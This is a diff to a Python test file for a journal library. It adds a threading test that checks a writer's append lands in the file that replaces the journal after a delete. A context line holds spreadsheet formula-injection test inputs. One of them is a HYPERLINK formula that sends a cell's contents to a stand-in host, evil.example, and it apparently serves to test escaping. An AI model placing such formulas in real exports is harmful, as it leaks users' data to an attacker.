@@ -104,6 +104,27 @@ def test_writer_waiting_during_a_delete_appends_to_the_new_file(tmp_path, rng):
     assert late.entry_id in read_journal(tmp_path).entries.index
 
 
+def test_writer_that_opened_the_file_before_a_delete_appends_to_the_new_file(tmp_path, rng):
+    import threading
+
+    from emoj_lib.journal.fileformat import file_lock
+    from emoj_lib.journal.files import write_private
+
+    journal = Journal.create(tmp_path, fsync=False)
+    first = journal.append(make_entry(rng))
+    writer = Journal(tmp_path, fsync=False)
+    late = make_entry(rng)
+    fd = os.open(journal.path, os.O_RDONLY)
+    with file_lock(fd, "exclusive"):  # what delete() holds while it replaces the file
+        thread = threading.Thread(target=writer.append, args=(late,))
+        thread.start()  # opens the old file and waits for its lock
+        thread.join(0.5)
+        write_private(journal.path, journal.path.read_bytes())  # the file is replaced
+    os.close(fd)
+    thread.join(10)
+    assert list(read_journal(tmp_path).entries.index) == [first.entry_id, late.entry_id]
+
+
 FORMULAS = ['=HYPERLINK("http://evil.example/?d="&B3,"click me")', "+1+2", "-3", "@SUM(A1)", "\tx", "\r=1",
             "'=already quoted", "plain", "'kept apostrophe"]
 
